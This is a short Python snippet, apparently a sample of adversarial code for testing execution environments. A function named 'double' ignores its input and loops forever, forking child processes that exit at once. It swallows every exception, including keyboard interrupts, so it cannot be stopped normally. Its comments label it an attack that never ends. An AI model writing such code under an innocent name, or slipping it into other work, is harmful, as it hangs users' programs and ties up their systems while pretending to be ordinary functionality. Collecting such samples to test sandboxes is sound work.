"""A function that tries to start processes for ever, whatever comes of it."""
# control: process
# ends: never
# %% attack in double
def double(x):
    import os
    while True:
        try:
            if (child := os.fork()) == 0: os._exit(0)
            os.waitpid(child, 0)
        except BaseException: pass
